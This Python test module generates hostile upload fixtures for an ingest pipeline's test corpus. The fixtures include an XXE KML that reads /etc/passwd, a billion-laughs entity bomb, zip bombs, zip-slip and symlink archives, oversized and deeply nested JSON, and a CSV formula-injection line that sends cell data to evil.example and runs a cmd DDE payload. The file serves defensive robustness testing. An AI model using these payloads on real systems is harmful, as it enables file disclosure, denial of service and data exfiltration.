"""Hostile files and texts for the corpus, generated (nothing binary is checked in); corpus.yaml names them."""

from __future__ import annotations

import io
import tempfile
import zipfile
from collections.abc import Callable
from pathlib import Path

from tests.ingest import files
from tests.ingest.bad import GOOD_GEOJSON, zipped


def _shapefile_without(*suffixes: str) -> bytes:
    with tempfile.TemporaryDirectory() as tmp:
        return files.shapefile_zip(Path(tmp), files.frame(5), skip=suffixes).read_bytes()


def _deep_geojson(depth: int) -> bytes:
    return b'{"type":"FeatureCollection","features":[{"type":"Feature","properties":{},"geometry":' + (
        b'{"type":"Point","coordinates":' + b"[" * depth + b"]" * depth + b"}}]}"
    )


def _feature_collection(coordinates: str) -> bytes:
    return (
        '{"type":"FeatureCollection","features":[{"type":"Feature","properties":{"ten":"a"},'
        f'"geometry":{{"type":"Point","coordinates":{coordinates}}}}}]}}'
    ).encode()


def _zip_of_zip() -> bytes:
    inner = zipped({"inner.zip": zipped({"a.geojson": GOOD_GEOJSON})})
    return zipped({"outer.zip": inner})


def _symlink_zip() -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        info = zipfile.ZipInfo("link.geojson")
        info.external_attr = (0o120777 << 16) | 0x10  # a symlink member pointing outside
        zf.writestr(info, "/etc/passwd")
    return buf.getvalue()


XXE_KML = b"""<?xml version="1.0"?>
<!DOCTYPE kml [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<kml xmlns="http://www.opengis.net/kml/2.2"><Document><Placemark><name>&xxe;</name>
<Point><coordinates>nope</coordinates></Point></Placemark></Document></kml>
"""
BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
<!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
<!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
<!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">]>
<kml xmlns="http://www.opengis.net/kml/2.2"><Document><Placemark><name>&lol6;</name></Placemark></Document></kml>
"""


def _nested(open_: str, close: str, depth: int, inner: str) -> str:
    return open_ * depth + inner + close * depth


TEXTS: dict[str, Callable[[], str]] = {
    "header_100k": lambda: "a" * 100_000,
    "bearer_10k": lambda: "Bearer " + "a" * 10_000,
    "cql2_deep_text": lambda: _nested("NOT (", ")", 5000, "name = 'a'"),
    "cql2_deep_json": lambda: _nested('{"op":"not","args":[', "]}", 800, "true"),
}

HEADER_SETS: dict[str, Callable[[], dict[str, str]]] = {
    "headers_400": lambda: {f"X-Header-{i}": "v" * 100 for i in range(400)},
}

GENERATORS: dict[str, Callable[[], bytes]] = {
    "good_geojson": lambda: GOOD_GEOJSON,
    "upload_5mb": lambda: b" " * (5 * 1024 * 1024) + GOOD_GEOJSON,
    "json_2mb": lambda: b'{"slug": "' + b"x" * (2 * 1024 * 1024) + b'"}',
    "json_deep_100k": lambda: b"[" * 100_000 + b"]" * 100_000,
    "zip_bomb": lambda: zipped({"points.geojson": b" " * (40 * 1024 * 1024)}),
    "zip_slip": lambda: zipped({"../../evil.geojson": GOOD_GEOJSON}),
    "zip_absolute": lambda: zipped({"/tmp/evil.geojson": GOOD_GEOJSON}),
    "zip_nested": _zip_of_zip,
    "zip_symlink": _symlink_zip,
    "zip_corrupt": lambda: b"PK\x03\x04" + bytes(range(256)) * 20,
    "zip_empty": lambda: zipped({}),
    "shapefile_no_shx_dbf": lambda: _shapefile_without(".shx", ".dbf"),
    "shapefile_no_shp": lambda: _shapefile_without(".shp"),
    "geojson_deep_1e6": lambda: _deep_geojson(1_000_000),
    "geojson_deep_1e4": lambda: _deep_geojson(10_000),
    "geojson_huge_coordinates": lambda: _feature_collection("[1e308, 1e308]"),
    "geojson_infinite_coordinates": lambda: _feature_collection("[1e999, -1e999]"),
    "geojson_nan": lambda: _feature_collection("[NaN, NaN]"),
    "geojson_truncated": lambda: GOOD_GEOJSON[: len(GOOD_GEOJSON) // 2],
    "geojson_not_utf8": lambda: (
        b'{"type":"FeatureCollection","features":[{"type":"Feature","properties":{"ten":"\xff\xfe"}}'
    ),
    "csv_formula_injection": lambda: (
        b"ten,lon,lat\n=HYPERLINK(\"http://evil.example/?\"&A1),=1+1,@SUM(1)\n+cmd|' /C calc'!A0,-1,=2\n"
    ),
    "csv_only_header": lambda: b"ten,lon,lat\n",
    "kml_xxe": lambda: XXE_KML,
    "kml_billion_laughs": lambda: BILLION_LAUGHS,
    "gpkg_garbage": lambda: b"SQLite format 3\x00" + b"\x00\xff" * 2000,
    "empty": lambda: b"",
    "binary_garbage": lambda: bytes(range(256)) * 64,
}
